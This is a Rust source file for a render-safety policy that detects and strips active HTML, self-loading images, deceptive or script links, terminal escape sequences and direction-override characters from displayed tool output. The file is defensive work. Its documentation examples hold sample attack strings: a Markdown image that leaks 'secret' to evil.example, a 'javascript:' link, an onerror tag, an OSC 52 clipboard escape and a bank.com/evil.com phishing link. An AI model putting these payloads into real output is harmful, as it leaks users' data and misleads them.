//! SG05: what people are shown runs nothing, loads nothing and leads where it says.
//!
//! # What it checks
//! Render events, and results that the attribute `display` marks as shown; in a result, every string of its content.
//! - `active_content`: HTML, also in Markdown, that runs, submits, embeds, restyles, or collides with the page's own
//!   names (`id`, `name`, `data-*`); elements and attributes that are not on the list.
//! - `auto_loading_resource`: pictures, `srcset`, `poster`, `<link>`, CSS `url()`, Markdown pictures, also by
//!   reference. Hosts of `allowed_hosts` pass, and pictures that stand in the address itself (`data:image/png`).
//! - `dangerous_link`: `javascript:`, `data:`, `vbscript:`, `file:`, every scheme that is not known to be harmless,
//!   and what is no address.
//! - `misleading_link`: the text shows another host than the link's, a user is named before the host, or the host is
//!   drawn like another (scripts mixed in one label).
//! - `terminal_escape`: control sequences, raw in every format (CSI, OSC 8, OSC 52, DCS, C1), and spelled (`\x1b[`,
//!   `\u001b`, `\033`, `\e[`, `^[[`) in texts and terminals.
//! - `bidi_control`: embeddings, overrides and isolates of direction, also as entities; `<bdo>`.
//! - `raw_html_in_text`: plain text with tags that would run or load if its reader took it for HTML.
//! - `unbounded_markup`: more than `max_bytes`, or nested and repeated beyond what a parser ends with in time.
//!
//! Where something has to go, the whole string becomes the sanitised one; where nothing has to, its bytes stand.
//! HTML passes an allow-list sanitiser. Markdown keeps its source: a picture becomes its alternative text, a link its
//! text. Tags in plain text are written `&lt;`, spelled escapes `␛`. A rule that is set to `allow` only reports, and
//! what it found stays, except elements and attributes that are not on the list of a sanitised HTML text.
//!
//! What goes may have kept something else from being read: a picture behind an HTML block that ends, a tag that a
//! control or a character of no width holds apart. So a text is read as it stands and without the characters that
//! nobody sees, and what comes out is read again until nothing is found in it; what only then is found is reported by
//! its own rule, without a place. A text that never settles is shown as its own source, in which nothing acts.
//!
//! # Why it matters
//! A picture that loads by itself carries a conversation out in its address, without a click. A link that shows one
//! host and opens another is how injected text phishes. A terminal obeys what it prints.
//!
//! # Violates
//! - `![](https://evil.example/?q=…)` in Markdown: only its alternative text is shown.
//! - `[bank.com](https://evil.com)`: the text is shown, without the link.
//! - `<img src=x onerror=…>` in a plain text: shown as `&lt;img src=x onerror=…>`.
//! - `<script></script>![](https://evil.example/?q=…)` in Markdown: the picture goes with the script that hid it.
//!
//! ```example active_content
//! render html "<p onclick=run()>hello</p>"
//! ```
//! ```example auto_loading_resource
//! render markdown "done ![chart](https://evil.example/?q=secret)"
//! ```
//! ```example active_content, auto_loading_resource
//! render markdown "<script></script>![chart](https://evil.example/?q=secret)"
//! ```
//! ```example dangerous_link
//! render markdown "[open](javascript:run())"
//! ```
//! ```example misleading_link
//! render html "<a href=\"https://evil.com/\">bank.com</a>"
//! ```
//! ```example terminal_escape
//! render terminal "\u001b]52;c;Y3VybA==\u0007done"
//! ```
//! ```example bidi_control
//! render text "user\u202e gpj.exe"
//! ```
//! ```example raw_html_in_text
//! render text "see <script>run()</script>"
//! ```
//! ```example unbounded_markup
//! option max_bytes=1024
//! render html "<<300*0123456789>>"
//! ```
//!
//! # Holds
//! - `<p class=x>a<br/>b` keeps its bytes, although a sanitiser would write them otherwise.
//! - Code in Markdown, whatever it shows; `Vec<String>` in plain text.
//!
//! ```example holds
//! render html "<p class=x>a<br/>b <a href=\"https://www.bank.com\">bank.com</a>"
//! ```
//! ```example holds
//! render markdown "`![x](https://evil.example)` and <https://bank.com>"
//! ```
//! ```example holds
//! render text "if a < b { Vec<String> }"
//! ```
//!
//! # Options
//! - `allowed_hosts` (none; at most 1 000): hosts that pictures may be loaded from, `img.example.com` or
//!   `*.example.com` for those below it.
//! - `max_bytes` (1 048 576; 1 024 to 8 388 608): the longest string that is taken apart.
//!
//! # Source
//! Checklist item 5 and rule 2 of `untrusted-tool-outputs.md`.

use super::{Evidence, Format, Meta, OptionsProblem, Place, Policy, Profile, Report, Rule, Severity, Subject, View};
use crate::engine::decision::Decision;
use crate::engine::event::Part;
use crate::engine::json::{Kind, Value};
use crate::engine::layer::{Edit, Layer, Span, Step};
use crate::engine::scan::markup::link::Hosts;
use crate::engine::scan::markup::{self, Harm, HarmSet, Harms, Shown};
use serde::{Deserialize, Serialize};
use std::borrow::Cow;

const fn rule(name: &'static str, severity: Severity, message: &'static str) -> Rule {
    Rule { name, effect: Decision::Redact, strict: Decision::Redact, severity, message }
}

const ACTIVE_CONTENT: Rule =
    rule("active_content", Severity::High, "what is shown holds active markup; it is shown without");
const AUTO_LOADING_RESOURCE: Rule = rule(
    "auto_loading_resource",
    Severity::High,
    "what is shown would load something by itself; its text is shown instead",
);
const DANGEROUS_LINK: Rule =
    rule("dangerous_link", Severity::High, "a link runs code or leads off the web; its text is shown instead");
const MISLEADING_LINK: Rule = rule(
    "misleading_link",
    Severity::High,
    "a link says that it leads elsewhere than it does; its text is shown instead",
);
const TERMINAL_ESCAPE: Rule =
    rule("terminal_escape", Severity::High, "what is shown holds control sequences of terminals; they are taken out");
const BIDI_CONTROL: Rule =
    rule("bidi_control", Severity::Medium, "what is shown holds characters that turn its order; they are taken out");
const RAW_HTML_IN_TEXT: Rule = rule(
    "raw_html_in_text",
    Severity::Medium,
    "plain text holds tags that would do something as HTML; they are escaped",
);
const UNBOUNDED_MARKUP: Rule = Rule {
    name: "unbounded_markup",
    effect: Decision::Block,
    strict: Decision::Block,
    severity: Severity::High,
    message: "the markup is larger or more entangled than any page needs; it is not shown",
};

const RULES: [(Harm, &Rule); 7] = [
    (Harm::ActiveContent, &ACTIVE_CONTENT),
    (Harm::AutoLoading, &AUTO_LOADING_RESOURCE),
    (Harm::DangerousLink, &DANGEROUS_LINK),
    (Harm::MisleadingLink, &MISLEADING_LINK),
    (Harm::TerminalEscape, &TERMINAL_ESCAPE),
    (Harm::BidiControl, &BIDI_CONTROL),
    (Harm::RawHtml, &RAW_HTML_IN_TEXT),
];

const MAX_HOSTS: usize = 1_000;
const MAX_BYTES: u64 = 8 << 20;

/// The policy.
pub struct RenderSafety {
    hosts: Hosts,
    max_bytes: u64,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Options {
    pub allowed_hosts: Vec<String>,
    pub max_bytes: u64,
}

impl Default for Options {
    fn default() -> Self {
        Self { allowed_hosts: Vec::new(), max_bytes: 1 << 20 }
    }
}

impl Policy for RenderSafety {
    const META: Meta = Meta {
        code: "SG05",
        number: 5,
        name: "render_safety",
        checklist: "item 5, rule 2",
        summary: "what people are shown runs nothing, loads nothing and leads where it says",
        rules: &[
            ACTIVE_CONTENT,
            AUTO_LOADING_RESOURCE,
            DANGEROUS_LINK,
            MISLEADING_LINK,
            TERMINAL_ESCAPE,
            BIDI_CONTROL,
            RAW_HTML_IN_TEXT,
            UNBOUNDED_MARKUP,
        ],
    };
    type Options = Options;

    fn problems(options: &Options) -> Vec<OptionsProblem> {
        let problem = |path: String, problem: String| OptionsProblem { path, problem };
        let mut found = Vec::new();
        if options.allowed_hosts.len() > MAX_HOSTS {
            let text = format!("{} hosts are more than {MAX_HOSTS}", options.allowed_hosts.len());
            found.push(problem("allowed_hosts".to_owned(), text));
        }
        for (ix, host) in options.allowed_hosts.iter().enumerate().filter(|(_, host)| !is_host(host)) {
            let text = format!("{host:?} is no host name and no `*.` with one");
            found.push(problem(format!("allowed_hosts.{ix}"), text));
        }
        if !(1 << 10..=MAX_BYTES).contains(&options.max_bytes) {
            let text = format!("{} is not between 1024 and {MAX_BYTES}", options.max_bytes);
            found.push(problem("max_bytes".to_owned(), text));
        }
        found
    }

    fn new(options: Options, _profile: Profile) -> Self {
        Self { hosts: Hosts::new(&options.allowed_hosts), max_bytes: options.max_bytes }
    }

    fn check<'r>(&self, subject: &Subject<'_, 'r>, _view: &View<'_>, report: &mut Report<'r>) {
        match subject {
            Subject::Render(render) => self.check_string(render.format, render.content, report),
            Subject::Result(result) => {
                let Some(format) = result.result.display else { return };
                for part in &result.result.parts {
                    let (Part::Text(value) | Part::Json(value)) = *part else { continue };
                    let strings = value.walk().filter(|(value, _)| value.kind() == Kind::String);
                    strings.for_each(|(value, _)| self.check_string(format, value, report));
                }
            }
            _ => {}
        }
    }
}

impl RenderSafety {
    fn check_string<'r>(&self, format: Format, value: Value<'r>, report: &mut Report<'r>) {
        let Some(Ok(layer)) = value.text_layer(report.bump(), Step::Json) else { return };
        let whole = Place::Value { value, range: None };
        let (found, limit) = (layer.bytes.len() as u64, self.max_bytes);
        if found > limit {
            report.find(&UNBOUNDED_MARKUP, whole, Evidence::Bytes { found, limit });
            return;
        }
        let text = readable(layer.bytes);
        let shown = match format {
            Format::Html => Shown::Html,
            Format::Markdown => Shown::Markdown,
            Format::Text => Shown::Text,
            Format::Terminal => Shown::Terminal,
        };
        let harms = markup::inspect(shown, &text, &self.hosts);
        if harms.count(Harm::TooComplex) > 0 {
            report.find(&UNBOUNDED_MARKUP, whole, Evidence::None);
            return;
        }
        let mut said = harms.kinds();
        let mut remove = say(&harms, said, true, value, report);
        if remove.is_empty() {
            return;
        }
        let (mut safe, mut armed) = markup::settle(shown, &text, &self.hosts, remove);
        // What is taken out may have kept something else from being read: then that has to go too. Every round finds
        // a kind that none before it found.
        for _ in Harm::ALL {
            let more = say(&armed, armed.kinds().without(said), false, value, report);
            if more.is_empty() {
                break;
            }
            (said, remove) = (said.with(armed.kinds()), remove.with(more));
            (safe, armed) = markup::settle(shown, &safe, &self.hosts, remove);
        }
        report.edits.extend(change(layer, safe.as_bytes()));
    }
}

/// Reports what was found of these kinds, and answers what has to go. What was found in a text that was changed has
/// no place in the record's.
fn say<'r>(harms: &Harms, kinds: HarmSet, placed: bool, value: Value<'r>, report: &mut Report<'r>) -> HarmSet {
    let mut remove = HarmSet::default();
    for (harm, rule) in RULES.into_iter().filter(|(harm, _)| kinds.has(*harm)) {
        let found = harms.count(harm);
        let range = harms.first(harm).filter(|_| placed).map(|(start, end)| (start as u32, end as u32));
        let evidence = Evidence::Count { found, limit: 0 };
        if report.find(rule, Place::Value { value, range }, evidence) == Decision::Redact {
            remove.add(harm);
        }
    }
    remove
}

/// The replacement of a text, without what both have in common at their ends: others may have to change that.
fn change<'r>(layer: &'r Layer<'r>, with: &[u8]) -> Option<Edit<'r>> {
    let old = layer.bytes;
    let inside = |text: &[u8], at: usize| text.get(at).is_some_and(|byte| (0x80..0xc0).contains(byte));
    let mut start = old.iter().zip(with).take_while(|(a, b)| a == b).count();
    while inside(old, start) || inside(with, start) {
        start = start.checked_sub(1)?;
    }
    let most = old.len().min(with.len()) - start;
    let mut tail = old.iter().rev().zip(with.iter().rev()).take(most).take_while(|(a, b)| a == b).count();
    while tail > 0 && (inside(old, old.len() - tail) || inside(with, with.len() - tail)) {
        tail -= 1;
    }
    let (end, with) = (old.len() - tail, with.get(start..with.len() - tail)?);
    let span = Span { layer, start: start as u32, end: end as u32 };
    (start < end || !with.is_empty()).then(|| Edit::new(span, with.to_vec()))
}

/// The text with a mark, as long, in the place of every lone surrogate.
fn readable(bytes: &[u8]) -> Cow<'_, str> {
    if let Ok(text) = std::str::from_utf8(bytes) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(bytes.len());
    let mut rest = bytes;
    while !rest.is_empty() {
        let valid = match std::str::from_utf8(rest) {
            Ok(text) => text.len(),
            Err(error) => error.valid_up_to(),
        };
        let (text, behind) = rest.split_at(valid);
        out.push_str(std::str::from_utf8(text).unwrap_or_default());
        if behind.is_empty() {
            break;
        }
        out.push(char::REPLACEMENT_CHARACTER);
        rest = behind.get(3..).unwrap_or_default();
    }
    Cow::Owned(out)
}

/// A host's name, or `*.` and one.
fn is_host(pattern: &str) -> bool {
    let name = pattern.strip_prefix("*.").unwrap_or(pattern);
    let is_label = |label: &str| {
        !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'))
    };
    name.len() <= 253 && name.split('.').all(is_label)
}
